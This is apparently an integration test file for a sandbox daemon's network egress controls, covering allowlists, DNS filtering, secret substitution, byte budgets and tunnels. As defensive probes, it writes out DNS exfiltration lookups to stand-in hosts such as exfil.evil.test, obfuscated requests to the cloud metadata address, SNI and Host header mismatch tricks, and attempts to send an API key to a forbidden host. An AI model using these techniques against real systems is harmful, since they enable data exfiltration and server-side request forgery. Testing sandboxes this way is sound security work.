//go:build integration

package integration

import (
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/cookiejar"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"
)

// netDaemon starts a daemon whose egress proxy resolves names through the
// lab's DNS server and trusts the lab's CA for intercepted TLS.
func netDaemon(t *testing.T, lab *netLab) *daemon {
	return startDaemonWith(t, func(cfg *string, _ string) {
		*cfg += fmt.Sprintf("\n[network]\ndns_servers = [%q]\nupstream_ca = %q\n", lab.DNS.String(), lab.CAFile)
	})
}

type egressEvent struct {
	Kind    string `json:"kind"`
	Host    string `json:"host"`
	Addr    string `json:"addr"`
	Port    int    `json:"port"`
	Verdict string `json:"verdict"`
	Reason  string `json:"reason"`
	Exec    *struct {
		Pid     int    `json:"pid"`
		Command string `json:"command"`
	} `json:"exec"`
	Process *struct {
		Pid     int    `json:"pid"`
		Command string `json:"command"`
	} `json:"process"`
	Secrets  []string `json:"secrets"`
	BytesOut int64    `json:"bytes_out"`
	BytesIn  int64    `json:"bytes_in"`
}

func (d *daemon) netLog(id string) []egressEvent {
	d.t.Helper()
	out := d.must("net", "log", "--json", id)
	var evs []egressEvent
	for _, line := range strings.Split(strings.TrimSpace(out), "\n") {
		if line == "" {
			continue
		}
		var ev egressEvent
		if err := json.Unmarshal([]byte(line), &ev); err != nil {
			d.t.Fatalf("net log line %q: %v", line, err)
		}
		evs = append(evs, ev)
	}
	return evs
}

// sh runs a shell command in the box and returns its combined output and
// whether it succeeded.
func (d *daemon) sh(id, script string) (string, bool) {
	out, errOut, err := d.corral("exec", "--timeout", "30s", id, "--", "sh", "-c", script)
	return out + errOut, err == nil
}

// daemonSockets counts the daemon's socket file descriptors.
func (d *daemon) daemonSockets() int {
	ents, _ := os.ReadDir(fmt.Sprintf("/proc/%d/fd", d.cmd.Process.Pid))
	n := 0
	for _, e := range ents {
		l, _ := os.Readlink(filepath.Join(fmt.Sprintf("/proc/%d/fd", d.cmd.Process.Pid), e.Name()))
		if strings.HasPrefix(l, "socket:") {
			n++
		}
	}
	return n
}

func TestEgressPolicy(t *testing.T) {
	lab := startNetLab(t)
	d := netDaemon(t, lab)
	if _, err := os.Stat("/usr/bin/curl"); err != nil {
		t.Skip("needs curl on the host (the host image runs it): apt-get install curl")
	}
	// The namespaces the daemon makes ahead each hold the agent's
	// listening socket: count with the pool full.
	d.waitPremade(t, 4)
	baseSockets := d.daemonSockets()
	id := d.create("--image", "host", "--network", "allowlist",
		"--allow", "allowed.test", "--allow", "*.allowed.test", "--allow", "rebind.test", "--allow", "loopback.test")
	curl := "curl -fsS -m 10 "

	t.Run("no proxy variables", func(t *testing.T) {
		out, _ := d.sh(id, "env | grep -i _proxy || echo none")
		if strings.TrimSpace(out) != "none" {
			t.Errorf("proxy variables in the box: %q", out)
		}
	})
	t.Run("allowed name", func(t *testing.T) {
		if out, ok := d.sh(id, curl+"http://allowed.test/"); !ok || !strings.Contains(out, "allowed") {
			t.Errorf("http://allowed.test: ok=%v %q", ok, out)
		}
		if out, ok := d.sh(id, curl+"-k https://www.allowed.test/"); !ok || !strings.Contains(out, "allowed") {
			t.Errorf("https://www.allowed.test: ok=%v %q", ok, out)
		}
	})
	lab.Reset()
	t.Run("forbidden name", func(t *testing.T) {
		if out, ok := d.sh(id, curl+"http://forbidden.test/"); ok {
			t.Errorf("http://forbidden.test succeeded: %q", out)
		}
		// Pinning the name to the forbidden server's address does not help.
		if out, ok := d.sh(id, curl+"--resolve forbidden.test:80:192.0.2.20 http://forbidden.test/"); ok {
			t.Errorf("pinned http://forbidden.test succeeded: %q", out)
		}
		if out, ok := d.sh(id, curl+"-k --resolve forbidden.test:443:192.0.2.20 https://forbidden.test/"); ok {
			t.Errorf("pinned https://forbidden.test succeeded: %q", out)
		}
		if n := len(lab.Requests("forbidden.test")); n != 0 {
			t.Errorf("the forbidden server got %d requests", n)
		}
	})
	t.Run("direct IP", func(t *testing.T) {
		for _, u := range []string{"http://192.0.2.20/", "-k https://192.0.2.20/", "http://192.0.2.10/"} {
			if out, ok := d.sh(id, curl+u); ok {
				t.Errorf("%s succeeded: %q", u, out)
			}
		}
	})
	t.Run("pinned allowed name goes to the checked address", func(t *testing.T) {
		lab.Reset()
		out, ok := d.sh(id, curl+"--resolve allowed.test:80:192.0.2.20 http://allowed.test/")
		if !ok || len(lab.Requests("forbidden.test")) != 0 || len(lab.Requests("allowed.test")) == 0 {
			t.Errorf("pinned allowed.test: ok=%v %q; forbidden got %d, allowed got %d", ok, out,
				len(lab.Requests("forbidden.test")), len(lab.Requests("allowed.test")))
		}
	})
	t.Run("SNI or Host mismatch", func(t *testing.T) {
		if out, ok := d.sh(id, curl+"-H 'Host: forbidden.test' http://allowed.test/"); ok {
			t.Errorf("Host forbidden.test to allowed.test succeeded: %q", out)
		}
		// Explicit proxy: CONNECT to an allowed host, then a ClientHello
		// for another.
		out, _ := d.sh(id, "echo | openssl s_client -proxy 10.88.0.1:3128 -connect allowed.test:443 -servername forbidden.test 2>&1 | head -5")
		if strings.Contains(out, "BEGIN CERTIFICATE") || strings.Contains(out, "Server certificate") {
			t.Errorf("CONNECT allowed.test with SNI forbidden.test got a certificate: %q", out)
		}
		// The explicit proxy works for a consistent request.
		if out, ok := d.sh(id, curl+"-k -x http://10.88.0.1:3128 https://allowed.test/"); !ok || !strings.Contains(out, "allowed") {
			t.Errorf("CONNECT allowed.test: ok=%v %q", ok, out)
		}
		if out, ok := d.sh(id, curl+"-x http://10.88.0.1:3128 http://forbidden.test/"); ok && !strings.Contains(out, "403") {
			t.Errorf("explicit proxy to forbidden.test: %q", out)
		}
	})
	t.Run("UDP ICMP IPv6", func(t *testing.T) {
		lab.Reset()
		d.sh(id, "echo hi | busybox nc -u -w 1 192.0.2.10 9999")
		if n := lab.UDPPackets(); n != 0 {
			t.Errorf("UDP echo got %d datagrams from the box", n)
		}
		if out, ok := d.sh(id, "busybox ping -c 1 -W 1 192.0.2.10"); ok {
			t.Errorf("ping succeeded: %q", out)
		}
		if out, ok := d.sh(id, curl+"-g 'http://[2001:db8::10]/'"); ok {
			t.Errorf("IPv6 succeeded: %q", out)
		}
	})
	t.Run("DNS", func(t *testing.T) {
		lab.Reset()
		if out, ok := d.sh(id, "busybox nslookup allowed.test"); !ok || !strings.Contains(out, "192.0.2.10") {
			t.Errorf("nslookup allowed.test: ok=%v %q", ok, out)
		}
		d.sh(id, "busybox nslookup c2VjcmV0.forbidden.test; busybox nslookup -type=txt allowed.test; busybox nslookup exfil.evil.test 192.0.2.53")
		for _, q := range lab.DNSQueries() {
			if strings.Contains(q, "forbidden") || strings.Contains(q, "evil") {
				t.Errorf("the lab's DNS server saw %q: a denied query left the box", q)
			}
		}
	})
	t.Run("metadata rebinding loopback host", func(t *testing.T) {
		for _, u := range []string{
			"http://169.254.169.254/", "http://2852039166/", "http://0251.0376.0251.0376/", "http://0xa9fea9fe/",
			"http://rebind.test/", "--resolve rebind.test:80:192.0.2.10 http://rebind.test/",
			"http://loopback.test/", "http://198.51.100.1/",
		} {
			if out, ok := d.sh(id, curl+u); ok || strings.Contains(out, "SECRET-METADATA") {
				t.Errorf("%s: ok=%v %q", u, ok, out)
			}
		}
	})
	t.Run("log attributes attempts to the exec", func(t *testing.T) {
		d.sh(id, "curl -sS -m 10 http://allowed.test/attributed")
		d.sh(id, "curl -fsS -m 10 http://forbidden.test/ --resolve forbidden.test:80:192.0.2.20")
		evs := d.netLog(id)
		var allowOK, denyOK bool
		for _, ev := range evs {
			attributed := ev.Exec != nil && strings.Contains(ev.Exec.Command, "curl") && ev.Process != nil && strings.HasPrefix(ev.Process.Command, "curl")
			if ev.Host == "allowed.test" && ev.Verdict == "allow" && attributed {
				allowOK = true
			}
			if ev.Host == "forbidden.test" && ev.Verdict == "deny" && attributed && ev.Reason != "" {
				allowOK = allowOK && true
				denyOK = true
			}
		}
		if !allowOK || !denyOK {
			t.Errorf("log lacks attributed events (allowed %v, denied %v): %+v", allowOK, denyOK, evs)
		}
		// DNS queries name the process that sent them too: curl's (glibc,
		// a connected socket) and busybox nslookup's, denied.
		d.sh(id, "busybox nslookup denied-name.test")
		var dnsAllowOK, dnsDenyOK bool
		for _, ev := range d.netLog(id) {
			if ev.Kind != "dns" || ev.Process == nil || ev.Exec == nil {
				continue
			}
			if ev.Host == "allowed.test" && ev.Verdict == "allow" && strings.HasPrefix(ev.Process.Command, "curl") {
				dnsAllowOK = true
			}
			if ev.Host == "denied-name.test" && ev.Verdict == "deny" && strings.Contains(ev.Process.Command, "nslookup") {
				dnsDenyOK = true
			}
		}
		if !dnsAllowOK || !dnsDenyOK {
			t.Errorf("DNS events not attributed (curl's allowed %v, nslookup's denied %v): %+v", dnsAllowOK, dnsDenyOK, d.netLog(id))
		}
		for _, ev := range evs {
			if ev.Verdict == "" {
				t.Errorf("event without a verdict: %+v", ev)
			}
		}
	})
	t.Run("policy change at run time", func(t *testing.T) {
		d.must("net", "set", id, "--mode", "allowlist", "--allow", "forbidden.test")
		if out, ok := d.sh(id, curl+"http://forbidden.test/"); !ok {
			t.Errorf("forbidden.test after allowing it: %q", out)
		}
		if out, ok := d.sh(id, curl+"http://allowed.test/"); ok {
			t.Errorf("allowed.test after removing it: %q", out)
		}
		d.must("net", "set", id, "--mode", "full")
		if out, ok := d.sh(id, curl+"http://allowed.test/"); !ok {
			t.Errorf("mode full: %q", out)
		}
		if out, ok := d.sh(id, curl+"http://169.254.169.254/"); ok {
			t.Errorf("mode full reached the metadata server: %q", out)
		}
		d.must("net", "set", id, "--mode", "none")
		if out, ok := d.sh(id, curl+"http://allowed.test/"); ok {
			t.Errorf("mode none: %q", out)
		}
	})

	// Removal leaves nothing: the daemon's sockets in the box are closed.
	d.must("rm", "-f", id)
	// The CLI's own connection may take a moment to close on the daemon's
	// side; the box's listeners and sock_diag socket must not stay.
	d.waitPremade(t, 4)
	n := d.daemonSockets()
	for i := 0; i < 50 && n > baseSockets; i++ {
		time.Sleep(20 * time.Millisecond)
		n = d.daemonSockets()
	}
	if n > baseSockets {
		t.Errorf("the daemon holds %d sockets after removal; %d before the box", n, baseSockets)
	}
	d.requireNoLeftovers()
}

// TestEgressAllowForms checks the allow entries of the field report of
// issue 21: NAME:PORT resolves in the box and allows that port only, an
// allowed name resolving to loopback gets an empty answer logged as
// denied with the reason, and entries that would do nothing are refused
// with an error naming the field, leaving nothing behind.
func TestEgressAllowForms(t *testing.T) {
	lab := startNetLab(t)
	d := netDaemon(t, lab)
	if _, err := os.Stat("/usr/bin/curl"); err != nil {
		t.Skip("needs curl on the host (the host image runs it): apt-get install curl")
	}
	id := d.create("--image", "host", "--allow", "allowed.test:80", "--allow", "*.allowed.test:443", "--allow", "loopback.test")
	curl := "curl -fsS -m 10 "

	t.Run("NAME:PORT resolves and allows that port", func(t *testing.T) {
		for _, name := range []string{"allowed.test", "www.allowed.test"} {
			if out, ok := d.sh(id, "busybox nslookup "+name); !ok || !strings.Contains(out, "192.0.2.10") {
				t.Errorf("nslookup %s: ok=%v %q", name, ok, out)
			}
		}
		if out, ok := d.sh(id, curl+"http://allowed.test/"); !ok || !strings.Contains(out, "allowed") {
			t.Errorf("http://allowed.test (port 80 allowed): ok=%v %q", ok, out)
		}
		if out, ok := d.sh(id, curl+"-k https://www.allowed.test/"); !ok || !strings.Contains(out, "allowed") {
			t.Errorf("https://www.allowed.test (port 443 allowed): ok=%v %q", ok, out)
		}
		if out, ok := d.sh(id, curl+"-k https://allowed.test/"); ok {
			t.Errorf("https://allowed.test (only port 80 allowed) succeeded: %q", out)
		}
		if out, ok := d.sh(id, curl+"http://www.allowed.test/"); ok {
			t.Errorf("http://www.allowed.test (only port 443 allowed) succeeded: %q", out)
		}
	})
	t.Run("allowed name without an allowed address", func(t *testing.T) {
		if out, _ := d.sh(id, "busybox nslookup loopback.test"); strings.Contains(out, "127.0.0.1") {
			t.Errorf("nslookup loopback.test answered a loopback address: %q", out)
		}
		var found bool
		for _, ev := range d.netLog(id) {
			if ev.Kind != "dns" || ev.Host != "loopback.test" || !strings.Contains(ev.Reason, "127.0.0.1 is a loopback address") {
				continue
			}
			found = true
			if ev.Verdict != "deny" || !strings.Contains(ev.Reason, "allowed by loopback.test, but") {
				t.Errorf("DNS event %+v; want deny, \"allowed by loopback.test, but ...\"", ev)
			}
		}
		if !found {
			t.Errorf("no DNS event for loopback.test naming the blocked address: %+v", d.netLog(id))
		}
	})
	t.Run("refused entries", func(t *testing.T) {
		before := d.must("ls", "-q")
		for _, tc := range []struct {
			args []string
			want string
		}{
			{[]string{"create", "--image", "host", "--network", "full", "--allow", "a.test"}, "network.allow: mode full allows every public destination"},
			{[]string{"net", "set", id, "--mode", "full", "--allow", "a.test"}, "network.allow: mode full allows every public destination"},
			{[]string{"net", "set", id, "--mode", "none", "--allow", "a.test"}, "network.allow: mode none lets nothing leave the sandbox"},
			{[]string{"net", "set", id, "--allow", lab.HostAddr.String()}, lab.HostAddr.String() + " is an address of this host"},
			{[]string{"net", "set", id, "--allow", "127.0.0.1:8080"}, "127.0.0.1 is a loopback address"},
			{[]string{"net", "set", id, "--allow", "10.88.0.1"}, "10.88.0.1 is a blocked address (in 10.88.0.0/16)"},
			{[]string{"net", "set", id, "--allow", "https://allowed.test/v1"}, "a URL is not an allow entry (a path cannot be allowed: the proxy decides by host and port): write allowed.test:443, or allowed.test for every port"},
		} {
			out, errOut, err := d.corral(tc.args...)
			if err == nil && tc.args[0] == "create" {
				d.corral("rm", "-f", strings.TrimSpace(out))
			}
			if err == nil || !strings.Contains(errOut, tc.want) {
				t.Errorf("corral %s: err=%v, stdout %q, stderr %q; want an error containing %q", strings.Join(tc.args, " "), err, out, errOut, tc.want)
			}
		}
		if after := d.must("ls", "-q"); after != before {
			t.Errorf("sandboxes after refused commands:\n%s\nbefore:\n%s", after, before)
		}
		// The policy is unchanged.
		if out, ok := d.sh(id, curl+"http://allowed.test/"); !ok {
			t.Errorf("http://allowed.test after refused changes: %q", out)
		}
	})
}

func TestEgressNoneByDefault(t *testing.T) {
	lab := startNetLab(t)
	d := netDaemon(t, lab)
	if _, err := os.Stat("/usr/bin/curl"); err != nil {
		t.Skip("needs curl on the host: apt-get install curl")
	}
	id := d.create("--image", "host")
	if out, ok := d.sh(id, "curl -fsS -m 5 http://192.0.2.10/"); ok {
		t.Errorf("a box without network reached the lab: %q", out)
	}
	if out, ok := d.sh(id, "busybox nslookup allowed.test"); ok && strings.Contains(out, "192.0.2.10") {
		t.Errorf("a box without network resolved a name: %q", out)
	}
}

func TestSecrets(t *testing.T) {
	lab := startNetLab(t)
	d := netDaemon(t, lab)
	if _, err := os.Stat("/usr/bin/curl"); err != nil {
		t.Skip("needs curl on the host: apt-get install curl")
	}
	const value = "s3cr3t-V4LUE-never-in-the-box"
	if out, errOut, err := d.corralIn([]byte(value), "secret", "set", "API_KEY"); err != nil {
		t.Fatalf("secret set: %v %s %s", err, out, errOut)
	}
	if out := d.must("secret", "ls"); !strings.Contains(out, "API_KEY") || strings.Contains(out, value) {
		t.Errorf("secret ls = %q", out)
	}
	id := d.create("--image", "host", "--allow", "allowed.test", "--allow", "forbidden.test", "--secret", "API_KEY=allowed.test")
	ph, _ := d.sh(id, "printf %s \"$API_KEY\"")
	if ph == "" || strings.Contains(ph, value) || !strings.HasPrefix(ph, "corral-secret-") {
		t.Fatalf("API_KEY in the box = %q; want a placeholder", ph)
	}
	lab.Reset()
	// HTTPS to the secret's host: intercepted with the box's CA, which the
	// box trusts; the server gets the value.
	out, ok := d.sh(id, `curl -sS -m 10 -H "Authorization: Bearer $API_KEY" https://allowed.test/`)
	if !ok {
		t.Fatalf("https://allowed.test with the secret: %q", out)
	}
	reqs := lab.Requests("allowed.test")
	if len(reqs) == 0 || reqs[len(reqs)-1].Header.Get("Authorization") != "Bearer "+value {
		t.Errorf("allowed.test got %+v; want Authorization: Bearer <value>", reqs)
	}
	// Plain HTTP too.
	lab.Reset()
	d.sh(id, `curl -sS -m 10 -H "X-Key: $API_KEY" http://allowed.test/plain`)
	if reqs := lab.Requests("allowed.test"); len(reqs) == 0 || reqs[0].Header.Get("X-Key") != value {
		t.Errorf("http://allowed.test got %+v", reqs)
	}
	// Another host gets the placeholder only.
	lab.Reset()
	d.sh(id, `curl -sS -m 10 -k -H "Authorization: Bearer $API_KEY" https://forbidden.test/ ; curl -sS -m 10 "http://forbidden.test/?k=$API_KEY"`)
	for _, r := range lab.Requests("forbidden.test") {
		if strings.Contains(fmt.Sprint(r.Header), value) || strings.Contains(r.Path, value) {
			t.Errorf("forbidden.test received the secret: %+v", r)
		}
	}
	// The value is nowhere the user or the box can read (the box's
	// writable places; /usr is the host's, read-only).
	for _, args := range [][]string{{"inspect", id}, {"net", "log", "--json", id}} {
		if out := d.must(args...); strings.Contains(out, value) {
			t.Errorf("corral %v shows the secret value", args)
		}
	}
	if out, _ := d.sh(id, "grep -rl "+value+" /etc /root /tmp /home /var /workspace 2>/dev/null | head -3"); strings.Contains(out, "/") {
		t.Errorf("the value is in the box's files: %q", out)
	}
	if b, err := os.ReadFile(d.logFile); err == nil && strings.Contains(string(b), value) {
		t.Error("the daemon's log contains the secret value")
	}
}

func TestEgressSurvivesDaemonKill(t *testing.T) {
	lab := startNetLab(t)
	d := netDaemon(t, lab)
	if _, err := os.Stat("/usr/bin/curl"); err != nil {
		t.Skip("needs curl on the host: apt-get install curl")
	}
	id := d.create("--image", "host", "--allow", "allowed.test")
	if out, ok := d.sh(id, "curl -fsS -m 10 http://allowed.test/"); !ok {
		t.Fatalf("before the kill: %q", out)
	}
	d.kill()
	d.start()
	if out, ok := d.sh(id, "curl -fsS -m 10 http://allowed.test/"); !ok {
		t.Errorf("after a daemon SIGKILL and restart: %q", out)
	}
	if out, ok := d.sh(id, "curl -fsS -m 10 http://forbidden.test/ --resolve forbidden.test:80:192.0.2.20"); ok {
		t.Errorf("policy lost after restart: %q", out)
	}
	d.must("rm", "-f", id)
	d.requireNoLeftovers()
}

// TestEgressBudgetSurvivesDaemonRestart: the byte budget counts each byte
// once (an upload of twice the budget is cut at about the budget, not at
// half) and is kept across a daemon restart (the box got a fresh budget
// before). A killed daemon may lose up to network.UsageFlushBytes of the
// count (TestUsageWrittenAsItGrows).
func TestEgressBudgetSurvivesDaemonRestart(t *testing.T) {
	lab := startNetLab(t)
	d := netDaemon(t, lab)
	if _, err := os.Stat("/usr/bin/curl"); err != nil {
		t.Skip("needs curl on the host: apt-get install curl")
	}
	id := d.create("--image", "host", "--allow", "allowed.test", "--net-budget", "2m")
	if out, ok := d.sh(id, "head -c 4194304 /dev/zero > /tmp/up && curl -fsS -m 20 --data-binary @/tmp/up http://allowed.test/ >/dev/null"); ok {
		t.Fatalf("an upload of twice the budget went through: %q", out)
	}
	var used int64
	for _, ev := range d.netLog(id) {
		used += ev.BytesOut + ev.BytesIn
	}
	t.Logf("egress before the cut: %d bytes", used)
	if used < 2<<20 || used > 2<<20+256<<10 {
		t.Errorf("the upload was cut after %d bytes; want about the budget (%d)", used, 2<<20)
	}
	d.stop()
	d.start()
	if out, ok := d.sh(id, "curl -fsS -m 10 http://allowed.test/"); ok {
		t.Errorf("after a daemon restart the box had budget left: %q", out)
	}
	evs := d.netLog(id)
	if last := evs[len(evs)-1]; last.Verdict != "deny" || !strings.Contains(last.Reason, "budget") {
		t.Errorf("last egress event %+v; want a deny for the budget", last)
	}
}

func TestTunnel(t *testing.T) {
	ln, err := net.Listen("tcp4", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	addr := ln.Addr().String()
	ln.Close()
	d := startDaemonWith(t, func(cfg *string, _ string) {
		*cfg += fmt.Sprintf("\n[tunnels]\nlisten = %q\n", addr)
	})
	id := d.create("--image", "busybox")
	d.must("exec", id, "--", "sh", "-c", "mkdir -p /www && echo hello-from-the-box > /www/index.html")
	d.must("exec", "--detach", id, "--", "httpd", "-f", "-p", "127.0.0.1:8000", "-h", "/www")
	u := strings.TrimSpace(d.must("port", "expose", id, "8000"))
	if !strings.Contains(u, "corral_token=") {
		t.Fatalf("port expose printed %q; want a URL with a token", u)
	}
	// A browser-like client: the token in the URL becomes a cookie.
	jar, _ := cookiejar.New(nil)
	client := &http.Client{Timeout: 10 * time.Second, Jar: jar}
	var body string
	for i := 0; i < 50; i++ { // httpd may still be starting
		resp, err := client.Get(u)
		if err == nil {
			b, _ := io.ReadAll(resp.Body)
			resp.Body.Close()
			body = string(b)
			if resp.StatusCode == http.StatusOK {
				break
			}
		}
		time.Sleep(100 * time.Millisecond)
	}
	if !strings.Contains(body, "hello-from-the-box") {
		t.Fatalf("GET %s = %q", u, body)
	}
	// Without the token: 401, and the box is not reached.
	bare := strings.Split(u, "?")[0]
	resp, err := (&http.Client{Timeout: 10 * time.Second}).Get(bare)
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != http.StatusUnauthorized {
		t.Errorf("GET without the token = %d; want 401", resp.StatusCode)
	}
	if out := d.must("port", "ls", id); !strings.Contains(out, "8000") {
		t.Errorf("port ls = %q", out)
	}
	d.must("port", "rm", id, "8000")
	resp, err = (&http.Client{Timeout: 10 * time.Second}).Get(u)
	if err == nil {
		resp.Body.Close()
		if resp.StatusCode == http.StatusOK {
			t.Error("the URL still works after port rm")
		}
	}
	d.must("rm", "-f", id)
	d.requireNoLeftovers()
}
